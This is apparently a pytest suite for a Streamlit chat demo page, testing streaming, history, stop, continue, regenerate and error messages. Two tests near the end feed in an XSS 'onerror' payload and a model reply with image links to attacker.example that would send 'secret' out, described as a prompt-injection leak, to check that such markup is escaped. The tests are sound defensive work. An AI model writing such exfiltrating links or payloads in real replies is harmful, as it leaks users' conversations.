"""The chat page: streaming into the conversation, options per call, history, stop, errors."""

import threading

from streamlit.runtime.scriptrunner_utils.exceptions import StopException

from backend.errors import HubUnreachableError, ModelUnavailableError, ShowcaseError
from backend.inference import text_generation
from backend.inference.footer import RunFooter
from backend.inference.screen_updates import DEFAULT_INTERVAL_SECONDS
from backend.inference.text_generation import GenerationResult
from tests.support.demo_pages import texts

PAGE = "pages/demos/text_generation.py"


class FakeStream:
    """Stands in for ReplyStream: yields chunks, then sets ``result`` as the real one does."""

    def __init__(self, chunks, interrupt=False):
        self.chunks = chunks
        self.interrupt = interrupt
        self.result = None

    def __iter__(self):
        yield from self.chunks
        if self.interrupt:
            raise StopException()  # what a stop click does to the running script
        text = "".join(self.chunks)
        footer = RunFooter("CPU (test)", "org/stand-in", 500.0, 1, "reply", len(self.chunks))
        self.result = GenerationResult(text, 20, len(self.chunks), 0.5, 40.0, False, 0, False, footer)


class PacedFakeStream(FakeStream):
    """Like a local ReplyStream, it also hands its text over at drawing times (``paced``)."""

    def __init__(self, chunks, interrupt=False):
        super().__init__(chunks, interrupt)
        self.paced_every = []

    def paced(self, every):
        self.paced_every.append(every)
        return iter(self)


def _patch_stream(monkeypatch, calls, chunks=("Hello", ", ", "world!"), interrupt=False, stream_type=FakeStream):
    def stream_reply(loaded, messages, options, stop_event=None):
        calls.append({"messages": [(m.role, m.content) for m in messages], "options": options, "stop": stop_event})
        calls[-1]["stream"] = stream_type(list(chunks), interrupt)
        return calls[-1]["stream"]

    monkeypatch.setattr(text_generation, "stream_reply", stream_reply)


def _assistant_texts(app):
    return [" ".join(m.value for m in msg.markdown) for msg in app.chat_message if msg.name == "assistant"]


def test_empty_state_and_bilingual_examples(open_page):
    app = open_page(PAGE)
    assert "Ask anything in English or Chinese" in texts(app, "info")
    labels = [b.label for b in app.button if b.key and b.key.startswith("text_generation.example.")]
    assert any("(Chinese)" in label for label in labels) and any("Explain" in label for label in labels)


def test_a_message_streams_a_reply_with_tokens_per_second(open_page, fake_model, monkeypatch):
    calls = []
    _patch_stream(monkeypatch, calls)
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("Hi there").run()
    assert not app.exception
    assert calls[0]["messages"][0][0] == "system"
    assert calls[0]["messages"][1:] == [("user", "Hi there")]
    assert calls[0]["options"].temperature == 0.7 and calls[0]["options"].max_new_tokens == 256
    assert _assistant_texts(app) == ["Hello, world!"]
    captions = texts(app, "caption")
    assert "6.0 tokens/s" in captions and "500 ms" in captions and "3 tokens" in captions


def test_history_is_kept_and_sent_with_the_next_message(open_page, fake_model, monkeypatch):
    calls = []
    _patch_stream(monkeypatch, calls)
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("First question").run()
    app.chat_input(key="text_generation.prompt").set_value("第二个问题").run()
    assert calls[1]["messages"][1:] == [
        ("user", "First question"),
        ("assistant", "Hello, world!"),
        ("user", "第二个问题"),
    ]
    assert [m.name for m in app.chat_message] == ["user", "assistant", "user", "assistant"]
    app.button(key="text_generation.clear").click().run()
    assert len(app.chat_message) == 0
    assert "Ask anything" in texts(app, "info")


def test_an_example_is_sent_as_a_message_with_the_chosen_options(open_page, fake_model, monkeypatch):
    calls = []
    _patch_stream(monkeypatch, calls)
    app = open_page(PAGE)
    app.slider(key="text_generation.temperature").set_value(0.0).run()
    app.slider(key="text_generation.max_new_tokens").set_value(64).run()
    app.text_input(key="text_generation.system").input("").run()
    app.button(key="text_generation.example.2").click().run()
    assert calls[0]["messages"] == [("user", "用三句话向一位银行经理解释什么是大语言模型。")]
    options = calls[0]["options"]
    assert options.greedy and options.max_new_tokens == 64


def test_stop_button_sets_the_event_and_the_partial_reply_is_kept(open_page, fake_model, monkeypatch):
    calls = []
    _patch_stream(monkeypatch, calls, chunks=("Partial", " answer"), interrupt=True)
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("Tell me a long story").run()
    stop_event = calls[0]["stop"]
    assert isinstance(stop_event, threading.Event) and not stop_event.is_set()
    app.button(key="text_generation.stop").click().run()
    assert stop_event.is_set()
    assert _assistant_texts(app) == ["Partial answer"]
    assert "Stopped before the end" in texts(app, "caption")


def test_a_local_reply_is_drawn_from_text_handed_over_at_the_drawing_interval(open_page, fake_model, monkeypatch):
    calls = []
    _patch_stream(monkeypatch, calls, chunks=("Partial", " answer"), interrupt=True, stream_type=PacedFakeStream)
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("Tell me a long story").run()
    assert calls[0]["stream"].paced_every == [DEFAULT_INTERVAL_SECONDS]
    app.button(key="text_generation.stop").click().run()
    assert _assistant_texts(app) == ["Partial answer"]  # a Stop click still keeps what was handed over


def test_real_tiny_chat_model_streams_through_the_page(open_page, tiny_model_paths):
    app = open_page(PAGE)
    app.selectbox(key="text_generation.model").select("__local_folder__").run()
    app.text_input(key="text_generation.model_folder").input(tiny_model_paths["text-generation"]).run()
    app.slider(key="text_generation.max_new_tokens").set_value(16).run()
    app.chat_input(key="text_generation.prompt").set_value("你好").run()
    assert not app.exception, [e.value for e in app.exception]
    assert [m.name for m in app.chat_message] == ["user", "assistant"]
    assert "tokens/s" in texts(app, "caption")
    # The tiny model's random weights write no end token: the reply is cut, and says so.
    assert "Stopped at the 16-token limit." in texts(app, "caption")


def test_too_long_a_message_gets_a_message_and_is_not_kept(open_page, fake_model):
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("x" * 5000).run()
    assert not app.exception
    assert "limit is 4,000" in texts(app, "warning")
    app.run()
    assert len(app.chat_message) == 0


def test_offline_default_model_shows_the_runtimes_message(open_page):
    app = open_page(PAGE)
    app.button(key="text_generation.example.0").click().run()
    assert not app.exception
    error = texts(app, "error")
    assert "Qwen/Qwen2.5-0.5B-Instruct is not downloaded" in error
    # No model of the list is downloaded in the test session: the next step is the warning's, not
    # "pick a downloaded one".
    assert "marked as downloaded" not in error
    assert "ask whoever runs it to download one" in error and "“A model folder on this server…”" in error
    assert "ask whoever runs it to download one" in texts(app, "warning")


def test_a_blank_message_gets_a_message_before_any_model_is_asked_for(open_page, no_model):
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("   ").run()
    assert not app.exception, [e.value for e in app.exception]
    assert "Type some text first." in texts(app, "warning")
    assert not app.session_state["text_generation.history"]


class LeavingStream(FakeStream):
    """Yields part of a reply, then the user opens another page: ``st.switch_page`` ends the run
    at that point exactly as the browser's page change does."""

    def __iter__(self):
        yield from self.chunks
        import streamlit as st

        st.switch_page("pages/overview/home.py")


def test_a_reply_cut_by_leaving_the_page_is_kept_marked_stopped_and_can_be_regenerated(
    open_page, fake_model, monkeypatch
):
    calls = []
    _patch_stream(monkeypatch, calls, chunks=("Once upon", " a time"), stream_type=LeavingStream)
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("Tell me a long story").run()
    assert not app.exception
    history = app.session_state["text_generation.history"]
    # The question never stands alone: its reply so far is beside it.
    assert [(entry["role"], entry["content"]) for entry in history] == [
        ("user", "Tell me a long story"),
        ("assistant", "Once upon a time"),
    ]
    app.switch_page(PAGE).run()
    assert _assistant_texts(app) == ["Once upon a time"]
    assert "Stopped before the end" in texts(app, "caption")

    _patch_stream(monkeypatch, calls)  # the next reply runs to the end
    app.button(key="text_generation.regenerate").click().run()
    assert not app.exception
    assert calls[-1]["messages"][-1] == ("user", "Tell me a long story")
    assert _assistant_texts(app) == ["Hello, world!"]
    assert [entry["role"] for entry in app.session_state["text_generation.history"]] == ["user", "assistant"]


def test_continue_goes_on_with_the_stopped_reply_itself_and_adds_no_turn(open_page, fake_model, monkeypatch):
    calls = []
    _patch_stream(monkeypatch, calls, chunks=("Partial", " answer"), interrupt=True)
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("Tell me a long story").run()
    app.button(key="text_generation.stop").click().run()
    _patch_stream(monkeypatch, calls, chunks=(" goes", " on."))
    app.button(key="text_generation.continue").click().run()
    assert not app.exception, [e.value for e in app.exception]
    # The model gets the stopped reply as its open turn, after the question, and nothing else.
    assert calls[-1]["messages"][-2:] == [("user", "Tell me a long story"), ("assistant", "Partial answer")]
    history = app.session_state["text_generation.history"]
    assert [(entry["role"], entry["content"]) for entry in history] == [
        ("user", "Tell me a long story"),
        ("assistant", "Partial answer goes on."),
    ]
    assert not history[-1].get("stopped") and history[-1]["result"].text == " goes on."
    assert _assistant_texts(app) == ["Partial answer goes on."]
    assert [m.name for m in app.chat_message] == ["user", "assistant"]
    assert not [button for button in app.button if button.key == "text_generation.continue"]


def test_a_continued_reply_stopped_again_keeps_all_its_text_and_can_continue_again(open_page, fake_model, monkeypatch):
    calls = []
    _patch_stream(monkeypatch, calls, chunks=("One",), interrupt=True)
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("Count").run()
    app.button(key="text_generation.stop").click().run()
    _patch_stream(monkeypatch, calls, chunks=(", two",), interrupt=True)
    app.button(key="text_generation.continue").click().run()
    # While the reply goes on, it is not offered for continuing or regenerating.
    assert not [
        button for button in app.button if button.key.startswith(("text_generation.continue", "text_generation.regen"))
    ]
    assert [button.key for button in app.button if button.key == "text_generation.stop"]
    app.button(key="text_generation.stop").click().run()
    assert not app.exception, [e.value for e in app.exception]
    history = app.session_state["text_generation.history"]
    assert [(entry["role"], entry["content"], entry.get("stopped")) for entry in history] == [
        ("user", "Count", None),
        ("assistant", "One, two", True),
    ]
    assert [button.key for button in app.button if button.key == "text_generation.continue"]


def test_continue_when_the_model_cannot_load_keeps_the_stopped_reply(open_page, fake_model, monkeypatch):
    calls = []
    _patch_stream(monkeypatch, calls, chunks=("Partial",), interrupt=True)
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("Tell me a long story").run()
    app.button(key="text_generation.stop").click().run()

    def model_gone(task, model_ref):
        raise ModelUnavailableError("The model folder was removed.", "Pick another model.")

    monkeypatch.setattr("pages.components.models.get_model", model_gone)
    app.button(key="text_generation.continue").click().run()
    assert not app.exception, [e.value for e in app.exception]
    assert "The model folder was removed." in texts(app, "error")
    assert _assistant_texts(app) == ["Partial"]
    history = app.session_state["text_generation.history"]
    assert [(entry["role"], entry["content"], entry.get("stopped")) for entry in history] == [
        ("user", "Tell me a long story", None),
        ("assistant", "Partial", True),
    ]
    assert len(calls) == 1


def test_chinese_examples_run_on_a_downloaded_chinese_model_else_are_marked(
    open_page, fake_model, monkeypatch, settings
):
    import shutil

    calls = []
    _patch_stream(monkeypatch, calls)
    app = open_page(PAGE)
    app.selectbox(key="text_generation.model").set_value("HuggingFaceTB/SmolLM2-135M-Instruct").run()
    assert app.button(key="text_generation.example.2").label.endswith("not this model's language")
    # Marked labels are too long for a quarter of the row: the four examples go two to a row, not cut.
    assert [column.weight for column in app.columns[-4:]] == [0.5, 0.5, 0.5, 0.5]
    app.button(key="text_generation.example.2").click().run()
    assert fake_model.requests[-1][1] == "HuggingFaceTB/SmolLM2-135M-Instruct"
    assert "handles English only" in texts(app, "warning")

    qwen = settings.models_dir / "Qwen--Qwen2.5-0.5B-Instruct"
    qwen.mkdir(parents=True)
    (qwen / "config.json").write_text("{}")
    try:
        app.run()
        assert app.button(key="text_generation.example.2").label == "Explain large models (Chinese)"
        app.button(key="text_generation.example.2").click().run()
        assert not app.exception
        assert fake_model.requests[-1][1] == "Qwen/Qwen2.5-0.5B-Instruct"
        assert texts(app, "warning").count("handles English only") == 1  # only the earlier reply's
    finally:
        shutil.rmtree(qwen)


class FailingStream(FakeStream):
    """Yields part of a reply, then generation fails (out of memory, a dead engine)."""

    def __iter__(self):
        yield from self.chunks
        raise ShowcaseError("Generation failed (RuntimeError).", "Try again or pick another model.")


def test_a_continuation_that_fails_midway_keeps_what_it_wrote_and_stays_stopped(open_page, fake_model, monkeypatch):
    calls = []
    _patch_stream(monkeypatch, calls, chunks=("Once",), interrupt=True)
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("Tell me a story").run()
    app.button(key="text_generation.stop").click().run()
    _patch_stream(monkeypatch, calls, chunks=(" upon", " a"), stream_type=FailingStream)
    app.button(key="text_generation.continue").click().run()
    assert not app.exception, [e.value for e in app.exception]
    assert "Generation failed" in texts(app, "error")
    history = app.session_state["text_generation.history"]
    assert [(entry["role"], entry["content"], entry.get("stopped")) for entry in history] == [
        ("user", "Tell me a story", None),
        ("assistant", "Once upon a", True),
    ]


def test_markup_in_a_message_is_shown_as_typed_and_its_lines_are_kept(open_page, fake_model, monkeypatch):
    calls = []
    _patch_stream(monkeypatch, calls, chunks=("**Bold** reply",))
    prompt = "![x](http://evil.example/a.png) <img src=x onerror=alert(1)>\n# not a heading\n- not a list"
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value(prompt).run()
    assert not app.exception, [e.value for e in app.exception]
    assert calls[0]["messages"][-1] == ("user", prompt)  # the model gets the text as typed
    [user] = [" ".join(m.value for m in msg.markdown) for msg in app.chat_message if msg.name == "user"]
    assert user == (
        "!\\[x\\](http:\u200b//evil.example/a.png) \\<img src=x onerror=alert(1)\\>  \n"
        "\\# not a heading  \n"
        "\\- not a list"
    )
    assert _assistant_texts(app)[0].startswith("**Bold** reply")  # a reply keeps the model's Markdown


def test_an_image_or_html_in_a_reply_is_shown_as_text_and_its_markdown_kept(open_page, fake_model, monkeypatch):
    calls = []
    # What a prompt injection can make a model write to leak the conversation through an image fetch.
    reply = "**Done** ![](http://attacker.example/?q=secret) <img src=http://attacker.example/b.png>\n\n`a < b`"
    _patch_stream(monkeypatch, calls, chunks=(reply,))
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("Summarise").run()
    assert not app.exception, [e.value for e in app.exception]
    assert _assistant_texts(app)[0].startswith(
        "**Done** &#33;[](http://attacker.example/?q=secret) &lt;img src=http://attacker.example/b.png>\n\n`a <\u2060 b`"
    )


def test_a_message_whose_model_cannot_load_shows_why_and_no_invitation_to_begin(open_page, monkeypatch):
    def unavailable(task: str, model_ref: str):
        raise HubUnreachableError("org/chat is not downloaded.", "Download it first.")

    monkeypatch.setattr("pages.components.models.get_model", unavailable)
    app = open_page(PAGE)
    app.chat_input(key="text_generation.prompt").set_value("Hi there").run()
    assert not app.exception, [e.value for e in app.exception]
    assert "org/chat is not downloaded." in texts(app, "error")
    # The conversation has begun, in the run that sent the message: the invitation to begin it is gone.
    assert "Ask anything" not in texts(app, "info")
